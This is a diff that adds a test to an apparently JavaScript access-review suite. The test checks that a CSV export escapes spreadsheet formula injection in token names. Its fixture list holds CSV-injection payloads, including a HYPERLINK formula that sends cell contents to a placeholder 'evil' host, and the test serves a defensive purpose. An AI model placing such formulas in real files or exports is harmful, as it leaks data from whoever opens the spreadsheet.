@@ -78,6 +78,18 @@ describe('the review of a quarter', () => {
     expect(await watchAccess(office, clockActor, 'night 3')).toMatchObject({ quarter: '2026-Q3' });
   });
 
+  it('is a table in which no name is calculated by a spreadsheet', async () => {
+    const { office } = opened.house;
+    const admin = await person('admin', 'ada');
+    const names = ['=HYPERLINK("http://evil/?"&A1,"x")', '+1', '-1', '@SUM(A1)', '\tx', '\rx'];
+    for (const name of names) await tokenFor(office, { name, role: 'legal' });
+    await tokenFor(office, { name: "O'Hara = 1", role: 'legal' });
+    const { id } = good(await openReviewNow(office, admin));
+    const csv = Buffer.from(good(await reviewCsv(office, id))).toString();
+    for (const name of names) expect(csv).toContain(`,"'${name.replaceAll('"', '""')}",`);
+    expect(csv).toContain(`,"O'Hara = 1",`);
+  });
+
   it('shows everybody and every live token, as they are and what they did', async () => {
     const { office } = opened.house;
     const admin = await person('admin', 'ada');
